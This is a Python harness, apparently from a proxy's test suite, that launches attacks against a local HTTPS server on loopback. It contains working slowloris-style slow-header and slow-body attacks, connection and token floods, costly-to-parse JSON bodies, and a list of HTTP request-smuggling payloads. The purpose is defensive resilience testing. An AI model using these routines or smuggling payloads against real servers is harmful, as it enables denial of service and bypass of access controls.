"""Attack an HTTP server. The program prints "ready" when the attack is at full strength.

    python -m campaigns.edge.attack NAME PORT TOKEN       with PYTHONPATH=tests

It ends when its standard input does. The attackers use other addresses of loopback than the honest peer, so a limit for
each client address can separate them.
"""

import asyncio
import resource
import secrets
import ssl
import sys
from collections.abc import Awaitable, Callable
from contextlib import suppress
from typing import Final

HEAD: Final = b"GET /incoming-payments/x HTTP/1.1\r\nHost: 127.0.0.1\r\n"
POST: Final = b"POST /ilp HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/octet-stream\r\n"
HIDDEN: Final = b"GET /hidden HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
CREATE: Final = (
    b"POST /o%20p/incoming-payments HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
    b"Authorization: GNAP x\r\n"
)
SMUGGLED: Final = [
    b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + HIDDEN,
    b"Transfer-Encoding: chunked\r\nContent-Length: %d\r\n\r\n0\r\n\r\n%s" % (len(HIDDEN) + 5, HIDDEN),
    b"Transfer-Encoding: xchunked\r\nContent-Length: 0\r\n\r\n" + HIDDEN,
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + HIDDEN,
    b"Content-Length: 0\r\nContent-Length: %d\r\n\r\n%s" % (len(HIDDEN), HIDDEN),
    b"Content-Length : %d\r\n\r\n%s" % (len(HIDDEN), HIDDEN),
    b"X: a\r\n Content-Length: 0\r\nContent-Length: %d\r\n\r\n%s" % (len(HIDDEN), HIDDEN),
    b"X: a\nContent-Length: 0\r\nContent-Length: %d\r\n\r\n%s" % (len(HIDDEN), HIDDEN),
    b"Connection: Upgrade\r\nUpgrade: h2c\r\nContent-Length: %d\r\n\r\n%s" % (len(HIDDEN), HIDDEN),
    b"Connection: Content-Length\r\nContent-Length: %d\r\n\r\n%s" % (len(HIDDEN), HIDDEN),
    b"Expect: 100-continue\r\nContent-Length: %d\r\n\r\n%s" % (len(HIDDEN), HIDDEN),
]
READY_S_MAX: Final = 30.0
Attacker = Callable[["Target", int, asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]


class Target:
    """The attacked server, and the attackers that have begun."""

    def __init__(self, port: int, token: str) -> None:
        self.port = port
        self.peer = POST + f"Authorization: Bearer {token}\r\n".encode()
        self.context = ssl.create_default_context()
        self.context.check_hostname = False
        self.context.verify_mode = ssl.CERT_NONE
        self.begun: set[int] = set()
        self.handshakes = asyncio.Semaphore(64)


async def slow_head(target: Target, number: int, _: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Send a header field, a byte a second."""
    writer.write(HEAD + b"X-Slow: ")
    while True:
        target.begun.add(number)
        await asyncio.sleep(1)
        writer.write(b"x")
        await writer.drain()


async def one_byte_chunks(
    target: Target, number: int, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
) -> None:
    """Send bodies of 30,000 chunks of one byte, as an authenticated peer."""
    while True:
        writer.write(target.peer + b"Transfer-Encoding: chunked\r\n\r\n")
        for _ in range(300):
            writer.write(b"1\r\nx\r\n" * 100)
            await writer.drain()
            target.begun.add(number)
        writer.write(b"0\r\n\r\n")
        await reader.readuntil(b"\r\n\r\n")
        await reader.read(65536)


async def unread_pipeline(target: Target, number: int, _: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Send requests without an end, and read no response."""
    requests = (HEAD + b"\r\n") * 100
    while True:
        target.begun.add(number)
        writer.write(requests)
        async with asyncio.timeout(3):  # open a new connection when this one is blocked
            await writer.drain()


async def slow_body(target: Target, number: int, _: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Send a body, a byte every half second."""
    writer.write(target.peer + b"Content-Length: 30000\r\n\r\n")
    while True:
        target.begun.add(number)
        writer.write(b"x")
        await writer.drain()
        await asyncio.sleep(0.5)


async def smuggle(target: Target, number: int, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Send requests with an ambiguous end, each with another request hidden in its body."""
    writer.write(POST + SMUGGLED[number % len(SMUGGLED)])
    target.begun.add(number)
    async with asyncio.timeout(1):
        while await reader.read(65536):
            pass


HOSTILE_BODIES: Final = [
    b"[" + b"NaN," * 16230 + b"[" * 33 + b"]" * 34,
    b'{"walletAddress":"https://bank.example/a","metadata":{"a":[' + b"0.1," * 16220 + b"0]}}",
    b'{"walletAddress":"https://bank.example/a","metadata":{"a":[' + b'{"":0,"":0},' * 5400 + b"0]}}",
    b"[" + b"[]," * 21600 + b"0]",
]


async def hostile_body(target: Target, number: int, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Send bodies that are expensive to read, with an unknown token, as fast as the proxy allows."""
    while True:
        body = HOSTILE_BODIES[number % len(HOSTILE_BODIES)]
        writer.write(CREATE + b"Content-Length: %d\r\n\r\n" % len(body) + body)
        await writer.drain()
        target.begun.add(number)
        await reader.read(65536)  # the whole response, which is one segment


async def unknown_token(
    target: Target, number: int, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
) -> None:
    """Send create requests, each with another random token, which the authorization server does not know."""
    body = b'{"walletAddress":"https://bank.example/a"}'
    while True:
        head = CREATE.replace(b"GNAP x", b"GNAP " + secrets.token_hex(16).encode())
        writer.write(head + b"Content-Length: %d\r\n\r\n" % len(body) + body)
        await writer.drain()
        target.begun.add(number)
        await reader.read(65536)  # the whole response, which is one segment


UNKNOWN_TOKENS: Final = "unknown tokens"

# Each attack, with its number of connections, and with the number of addresses that they come from
ATTACKS: Final[dict[str, tuple[Attacker, int, int]]] = {
    "slow heads": (slow_head, 1200, 4),
    "1-byte chunks": (one_byte_chunks, 16, 4),
    "pipelines that are never read": (unread_pipeline, 16, 4),
    "bodies that trickle": (slow_body, 300, 4),
    "smuggling": (smuggle, 22, 4),
    "hostile bodies": (hostile_body, 4, 1),
    UNKNOWN_TOKENS: (unknown_token, 380, 4),
}


async def attacker(target: Target, attack: Attacker, number: int, address: str) -> None:
    """Attack over one connection after the other."""
    while True:
        with suppress(OSError, TimeoutError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
            async with target.handshakes:
                reader, writer = await asyncio.open_connection(
                    "127.0.0.1",
                    target.port,
                    ssl=target.context,
                    limit=64,
                    local_addr=(address, 0),
                )
            try:
                await attack(target, number, reader, writer)
            finally:
                writer.transport.abort()
        await asyncio.sleep(0.1)


async def main(name: str, port: str, token: str) -> None:
    """Attack until standard input ends."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))  # 1,200 connections need more than the usual 1,024
    attack, count, addresses = ATTACKS[name]
    target = Target(int(port), token)
    tasks = [
        asyncio.create_task(attacker(target, attack, number, f"127.0.0.{66 + number % addresses}"))
        for number in range(count)
    ]
    enough = count if attack is not slow_body else count // 2  # the proxy refuses the others
    async with asyncio.timeout(READY_S_MAX):
        while len(target.begun) < enough:  # noqa: ASYNC110 - once, at the start
            await asyncio.sleep(0.05)
    sys.stdout.write("ready\n")
    sys.stdout.flush()
    await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:]))
